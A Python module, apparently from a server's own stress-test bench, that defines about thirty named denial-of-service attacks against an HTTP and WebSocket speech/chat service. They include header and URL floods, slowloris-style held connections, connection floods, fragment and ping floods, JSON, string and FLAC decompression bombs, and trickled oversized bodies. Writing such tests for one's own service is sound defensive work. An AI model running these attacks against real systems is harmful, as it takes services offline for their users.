"""The attacks, by name. Each goes on until its time is over, however often the server hangs up."""

from __future__ import annotations

import contextlib
import itertools
import resource
import socket
import time
from collections.abc import Callable, Iterator, Mapping
from typing import TypeAlias

from antiphon.audio.encode import Format, encode
from antiphon.audio.pcm import Pcm
from bench.attacks.wire import (
    CONTINUATION,
    PING,
    TEXT,
    Target,
    audio_item,
    event,
    frame,
    spoken_request,
)
from bench.hostile import flac_bomb

Attack: TypeAlias = Callable[[Target], None]

_MEGABYTE = b"a" * (1 << 20)
_LONG_MEGABYTES = 130
_GET = b"GET /health HTTP/1.1\r\nHost: localhost\r\n"
_EVENT_BYTES = 22 * 1024 * 1024 - 64
_BODY_BYTES = 28 * 1024 * 1024 - 64
_MOST_FILES = 8192


def none(target: Target) -> None:
    """A neighbour that is busy with something else: what any other process of this priority costs."""
    while not target.is_over:
        pass


# --- without a key ---------------------------------------------------------------------------------------------------


def many_headers(target: Target) -> None:
    target.again_and_again(lambda to: target.send_all(to, [_GET, *[b"A: b\r\n" * 10_000] * 100]))


def long_header(target: Target) -> None:
    target.again_and_again(lambda to: target.send_all(to, [_GET, b"A: ", *[_MEGABYTE] * _LONG_MEGABYTES]))


def long_url(target: Target) -> None:
    target.again_and_again(lambda to: target.send_all(to, [b"GET /", *[_MEGABYTE] * _LONG_MEGABYTES]))


def requests_ahead(target: Target) -> None:
    target.again_and_again(lambda to: target.send_all(to, [(_GET + b"\r\n") * 50_000]))


def requests_on_end(target: Target) -> None:
    """Answers that need no key, as fast as they come, over many connections."""

    def ask(connection: socket.socket) -> None:
        while not target.is_over:
            connection.sendall(_GET + b"\r\n")
            said = b""
            while not said.endswith(b"}"):
                if not (part := connection.recv(1 << 16)):
                    return
                said += part

    target.at_once(32, lambda: target.again_and_again(ask))


def herd(target: Target) -> None:
    """A thousand connections that wait, and ask at the same moment."""
    with contextlib.ExitStack() as held:
        while not target.is_over:
            connections = [held.enter_context(one) for one in _opened(target, 1000)]
            time.sleep(min(0.5, target.seconds_left))
            for connection in connections:
                with contextlib.suppress(OSError):
                    connection.sendall(_GET + b"\r\n")
            time.sleep(min(0.5, target.seconds_left))
            held.close()


def oversized_bodies(target: Target) -> None:
    """More than may be sent, on and on."""
    head = target.chat_head(1 << 40, target.key)
    target.at_once(16, lambda: target.again_and_again(lambda to: target.send_all(to, [head, *[_MEGABYTE] * 300])))


def wrong_keys(target: Target) -> None:
    """As many requests as one connection carries, each refused."""
    head = target.chat_head(2, "wrong").replace(b"Connection: close\r\n", b"")

    def ask(connection: socket.socket) -> None:
        while not target.is_over:
            connection.sendall(head + b"{}")
            connection.recv(1 << 16)

    target.at_once(4, lambda: target.again_and_again(ask))


def slow_heads(target: Target) -> None:
    _hold_open(target, count=1000, every_second=b"A")


def silent_connections(target: Target) -> None:
    """More of them than there may be."""
    _hold_open(target, count=5000, every_second=b"")


def connection_flood(target: Target) -> None:
    target.at_once(4, lambda: target.again_and_again(lambda _: None))


def connections_with_a_byte(target: Target) -> None:
    """They have begun to speak, so the server cannot tell that they have ended already."""
    target.at_once(4, lambda: target.again_and_again(lambda to: to.sendall(b"G")))


def _opened(target: Target, count: int) -> list[socket.socket]:
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(_MOST_FILES, most), most))
    connections: list[socket.socket] = []
    with contextlib.suppress(OSError):
        while len(connections) < count and not target.is_over:
            connections.append(target.connect())
    return connections


def _hold_open(target: Target, *, count: int, every_second: bytes) -> None:
    with contextlib.ExitStack() as held:
        connections = [held.enter_context(one) for one in _opened(target, count)]
        while not target.is_over:
            for connection in connections if every_second else ():
                with contextlib.suppress(OSError):
                    connection.sendall(every_second)
            time.sleep(min(1.0, target.seconds_left))


def empty_frames_when_refused(target: Target) -> None:
    def flood(connection: socket.socket) -> None:
        target.open_refused(connection)
        target.send_all(connection, _in_fragments(b""))

    target.again_and_again(flood)


# --- with a key: frames and events -----------------------------------------------------------------------------------


def empty_frames(target: Target) -> None:
    target.flood_session(_in_fragments(b""))


def tiny_fragments(target: Target) -> None:
    target.flood_session(_in_fragments(b"a"))


def pings(target: Target) -> None:
    target.flood_session(itertools.repeat(frame(PING, b"x") * 1000))


def invalid_events(target: Target) -> None:
    target.flood_session(itertools.repeat((frame(TEXT, b"x") + event("no.such.event")) * 100))


def event_bombs(target: Target) -> None:
    target.flood_session(itertools.repeat(frame(TEXT, _array_of(b"{}", _EVENT_BYTES))))


def string_bombs(target: Target) -> None:
    """Few values, but strings that cost most to read."""
    escapes = rb"\u00e9" * ((_EVENT_BYTES - 100) // 6)
    target.flood_session(itertools.repeat(frame(TEXT, b'{"type":"response.cancel","response_id":"%b"}' % escapes)))


def audio_without_end(target: Target) -> None:
    """Sound that is appended faster than anybody could listen to it."""
    target.flood_session(itertools.repeat(frame(TEXT, _append(15 * 1024 * 1024))))


def _in_fragments(data: bytes) -> Iterator[bytes]:
    yield frame(TEXT, data, final=False)
    yield from itertools.repeat(frame(CONTINUATION, data, final=False) * 1000, 2000)


def _array_of(value: bytes, size: int) -> bytes:
    return b"[" + b",".join([value] * (size // (len(value) + 1) - 1)) + b"]"


def _append(audio_bytes: int) -> bytes:
    return b'{"type":"input_audio_buffer.append","audio":"%b"}' % (b"AAAA" * (audio_bytes // 3))


# --- with a key: what is kept, and what is made ----------------------------------------------------------------------


def items_without_end(target: Target) -> None:
    target.flood_session(itertools.repeat(audio_item(bytes(9 * 1024 * 1024))))


def sessions_on_end(target: Target) -> None:
    target.at_once(4, lambda: target.flood_session([]))


def commits_without_end(target: Target) -> None:
    manual = event("session.update", session={"turn_detection": None})
    turn = frame(TEXT, _append(8 * 1024 * 1024)) + event("input_audio_buffer.commit")
    target.flood_session(itertools.chain([manual], itertools.repeat(turn)))


def out_of_band_responses(target: Target) -> None:
    target.flood_session(itertools.repeat(event("response.create", response={"conversation": "none"})))


# --- with a key: bodies ----------------------------------------------------------------------------------------------


def body_bombs(target: Target) -> None:
    body = b'{"messages":%b}' % _array_of(b"{}", _BODY_BYTES - 20)
    target.again_and_again(lambda to: target.post_chat(to, body))


def large_audio(target: Target) -> None:
    body = spoken_request(encode([Pcm.silence(400, 24_000)], audio_format=Format.WAV, sample_rate=24_000), "wav")
    target.again_and_again(lambda to: target.post_chat(to, body))


def flac_bombs(target: Target) -> None:
    body = spoken_request(flac_bomb(), "flac")
    target.again_and_again(lambda to: target.post_chat(to, body))


def trickled_bodies(target: Target) -> None:
    """As many as there may be of any size, a little at a time."""

    def trickle(connection: socket.socket) -> None:
        connection.sendall(target.chat_head(_BODY_BYTES, target.key) + b'"' + _MEGABYTE[:-100])
        while not target.is_over:
            connection.sendall(b"a" * 200)
            time.sleep(0.01)

    target.at_once(24, lambda: target.again_and_again(trickle))


ATTACKS: Mapping[str, Attack] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        none,
        many_headers,
        long_header,
        long_url,
        requests_ahead,
        requests_on_end,
        herd,
        oversized_bodies,
        wrong_keys,
        slow_heads,
        silent_connections,
        connection_flood,
        connections_with_a_byte,
        empty_frames_when_refused,
        empty_frames,
        tiny_fragments,
        pings,
        invalid_events,
        event_bombs,
        string_bombs,
        audio_without_end,
        items_without_end,
        commits_without_end,
        out_of_band_responses,
        sessions_on_end,
        body_bombs,
        large_audio,
        flac_bombs,
        trickled_bodies,
    )
}
